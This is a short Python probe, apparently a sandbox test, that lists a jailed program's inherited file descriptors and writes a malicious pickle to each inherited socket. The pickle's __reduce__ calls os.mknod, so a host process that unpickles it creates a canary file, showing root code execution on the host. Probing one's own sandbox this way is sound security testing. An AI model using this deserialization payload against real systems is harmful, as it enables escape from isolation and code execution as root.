"""fdleak.py [CANARY]: list the fds the program starts with; with CANARY, write a pickle to
every inherited socket that, if some host process unpickles it, creates CANARY on the host.

The jail's processes talk over pickled messages (jail/zygote.py); a socket of theirs
inherited by the program would let it run code as root on the host.
"""

import json
import os
import socket
import stat
import sys

fds = {}
for name in sorted(os.listdir("/proc/self/fd"), key=int):
    fd = int(name)
    try:
        st = os.fstat(fd)
        fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue  # the listing's own directory fd
    if len(sys.argv) > 1 and stat.S_ISSOCK(st.st_mode) and fd > 2:
        import pickle

        class Payload:
            def __reduce__(self):
                return (os.mknod, (sys.argv[1],))  # a regular file, made by whoever unpickles

        msg = pickle.dumps((Payload(), 0, None))
        s = socket.socket(fileno=os.dup(fd))
        for _ in range(3):
            try:
                s.send(msg)
                fds[fd] += " (sent)"
            except OSError as e:
                fds[fd] += f" ({e.strerror})"
fds.pop(max(fds), None) if fds and "/proc/" in fds[max(fds)] else None
print(json.dumps(fds))
